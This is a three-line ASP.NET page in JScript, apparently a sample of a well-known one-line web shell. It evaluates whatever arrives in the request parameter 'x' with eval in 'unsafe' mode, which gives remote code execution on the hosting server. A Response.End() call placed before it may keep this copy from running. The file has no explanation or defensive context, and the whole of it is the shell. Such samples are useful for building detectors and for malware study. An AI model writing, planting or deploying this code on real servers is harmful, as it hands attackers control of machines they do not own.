<%@ Page Language="Jscript" %>
<% Response.End(); %>
<% eval(Request.Item["x"], "unsafe"); %>
